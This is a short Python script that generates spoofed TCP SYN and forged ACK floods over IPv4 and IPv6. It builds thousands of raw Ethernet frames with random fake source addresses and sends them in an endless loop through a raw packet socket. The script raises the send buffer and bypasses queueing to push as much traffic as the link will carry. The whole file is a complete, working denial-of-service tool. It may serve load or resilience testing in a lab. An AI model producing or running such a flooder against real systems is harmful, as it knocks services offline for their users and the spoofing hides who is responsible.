#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Floods that hping3 cannot make: IPv6, and forged ACKs. Runs until it is ended.

usage: flood.py DEVICE SOURCE-MAC TARGET-MAC syn4|syn6|ack4|ack6 TARGET-ADDRESS
"""
import random
import signal
import socket
import struct
import sys

FRAMES = 20000  # made beforehand, then sent round and round: as many spoofed sources
SYN, ACK = 0x02, 0x10
SYN_OPTIONS = bytes.fromhex("020405b40402080a000003e80000000001030307")
ACK_OPTIONS = bytes.fromhex("0101080a000003e900000001")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp(pseudo_header, syn):
    options = SYN_OPTIONS if syn else ACK_OPTIONS

    def header(check):
        return struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), 80, seq, 0 if syn else ack,
                           (20 + len(options)) << 2, SYN if syn else ACK, 64240, check, 0) + options

    seq, ack = random.getrandbits(32), random.getrandbits(32)
    state = random.getstate()
    unfinished = header(0)
    random.setstate(state)
    return header(checksum(pseudo_header(len(unfinished)) + unfinished))


def frame4(target, syn):
    source = bytes((11, *random.randbytes(2), random.randrange(1, 255)))
    segment = tcp(lambda length: source + target + struct.pack("!BBH", 0, 6, length), syn)

    def header(check):
        return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0x4000, 60, 6, check) + source + target

    return b"\x08\x00" + header(checksum(header(0))) + segment


def frame6(target, syn):
    source = bytes.fromhex("fd00bad000000000") + random.randbytes(8)
    segment = tcp(lambda length: source + target + struct.pack("!II", length, 6), syn)
    return b"\x86\xdd" + struct.pack("!IHBB", 0x60000000, len(segment), 6, 60) + source + target + segment


def main():
    device, source_mac, target_mac, kind, address = sys.argv[1:6]
    macs = bytes.fromhex((target_mac + source_mac).replace(":", ""))
    family, build = (socket.AF_INET6, frame6) if kind.endswith("6") else (socket.AF_INET, frame4)
    target = socket.inet_pton(family, address)
    frames = [macs + build(target, kind.startswith("syn")) for _ in range(FRAMES)]
    signal.signal(signal.SIGTERM, signal.SIG_DFL)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as port:
        # The default buffer slows a sender to what the receiver takes: no flood at all.
        port.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)  # SO_SNDBUFFORCE
        port.setsockopt(263, 20, 1)  # SOL_PACKET, PACKET_QDISC_BYPASS
        port.bind((device, 0))
        while True:
            for frame in frames:
                try:
                    port.send(frame)
                except OSError:  # full: the link takes no more just now
                    pass


if __name__ == "__main__":
    main()
